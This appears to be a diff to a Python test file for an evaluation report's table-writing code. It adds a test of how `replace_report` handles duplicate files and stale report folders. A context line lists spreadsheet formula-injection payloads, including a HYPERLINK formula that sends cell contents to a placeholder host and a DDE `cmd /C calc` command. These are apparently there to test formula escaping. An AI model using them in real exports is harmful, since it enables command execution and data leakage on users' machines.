@@ -17,8 +17,10 @@ from eval.report.tables import (
     latex,
     legend,
     markdown,
+    new_report,
     page_lines,
     printed,
+    replace_report,
     table_from,
     with_rows,
     write_rows,
@@ -78,6 +80,15 @@ def test_hostile_text_stays_one_cell_in_every_language():
     assert f"\n{words}" in latex(table)
     assert "\n{}[1.0, 2.0] & " in latex(table)  # else an argument of the line break before it
     assert "<b>" not in PARTS.data_table(table)
+
+
+def test_a_file_listed_twice_is_moved_once_and_of_other_reports_only_those_that_died_are_removed(tmp_path):
+    lives, died = tmp_path / ".new.1", tmp_path / ".new.99999999"
+    lives.mkdir()
+    died.mkdir()
+    files = write_rows(new_report(tmp_path), "a", [{"x": 1}])
+    assert replace_report([*files, *files]) == [tmp_path / "a.json", tmp_path / "a.csv"]
+    assert (lives.exists(), died.exists()) == (True, False)
 
 
 FORMULAS = ['=HYPERLINK("http://x/"&A1,"y")', "+1+cmd|' /C calc'!A0", "-2+SUM(A1)", "@SUM(A1)", "\t=1", "\r=1", "\n=1"]
